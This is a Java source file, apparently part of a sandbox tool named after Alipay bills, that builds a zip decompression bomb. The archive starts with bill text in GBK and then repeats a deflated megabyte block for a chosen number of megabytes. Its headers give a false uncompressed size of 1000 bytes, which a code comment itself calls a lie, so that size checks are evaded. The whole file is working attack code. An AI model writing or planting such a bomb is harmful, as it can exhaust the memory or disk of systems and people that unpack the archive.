package io.counterfoil.sandbox.alipay;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.zip.Deflater;

/**
 * A small zip with a huge entry. A megabyte is compressed once, by itself, and its bytes are
 * repeated: deflate lets blocks follow each other that know nothing of one another.
 */
final class ZipBomb {

    private static final int LOCAL = 0x04034b50;
    private static final int DESCRIPTOR = 0x08074b50;
    private static final int CENTRAL = 0x02014b50;
    private static final int END = 0x06054b50;
    private static final short SIZES_FOLLOW = 8;

    private final OutputStream out;
    private long offset;

    private ZipBomb(OutputStream out) {
        this.out = out;
    }

    /** Begins as a text does, goes on with its last line for so many megabytes. */
    static void write(OutputStream out, String name, String text, String line, int megabytes)
            throws IOException {
        new ZipBomb(out).write(name.getBytes(BillWriter.GBK), text, line, megabytes);
    }

    private void write(byte[] name, String text, String line, int megabytes) throws IOException {
        var block = line.repeat((1 << 20) / line.length() + 1).getBytes(BillWriter.GBK);
        put(
                buffer(30)
                        .putInt(LOCAL)
                        .putShort((short) 20)
                        .putShort(SIZES_FOLLOW)
                        .putShort((short) 8),
                26);
        // The last two shorts of the head: the name's length, and that nothing else follows it.
        put(buffer(4).putShort((short) name.length).putShort((short) 0), 4);
        put(name);
        long start = offset;
        put(deflated(text.getBytes(BillWriter.GBK)));
        var compressed = deflated(block);
        for (int i = 0; i < megabytes; i++) {
            put(compressed);
        }
        // An empty last block.
        put(new byte[] {3, 0});
        int size = (int) (offset - start);
        // What it says of itself is a lie: it would be small.
        put(buffer(16).putInt(DESCRIPTOR).putInt(0).putInt(size).putInt(1000), 16);
        long directory = offset;
        var central = buffer(46).putInt(CENTRAL).putShort((short) 20).putShort((short) 20);
        central.putShort(SIZES_FOLLOW).putShort((short) 8).putInt(0).putInt(0).putInt(size);
        central.putInt(1000).putShort((short) name.length);
        put(central, 46);
        put(name);
        var end = buffer(22).putInt(END).putInt(0).putShort((short) 1).putShort((short) 1);
        end.putInt((int) (offset - directory)).putInt((int) directory);
        put(end, 22);
    }

    private void put(ByteBuffer buffer, int length) throws IOException {
        put(Arrays.copyOf(buffer.array(), length));
    }

    private void put(byte[] bytes) throws IOException {
        out.write(bytes);
        offset += bytes.length;
    }

    private static ByteBuffer buffer(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }

    private static byte[] deflated(byte[] bytes) {
        var deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(bytes);
            var out = new ByteArrayOutputStream();
            var buffer = new byte[8192];
            int length;
            do {
                length = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
                out.write(buffer, 0, length);
            } while (length == buffer.length);
            return out.toByteArray();
        } finally {
            deflater.end();
        }
    }
}
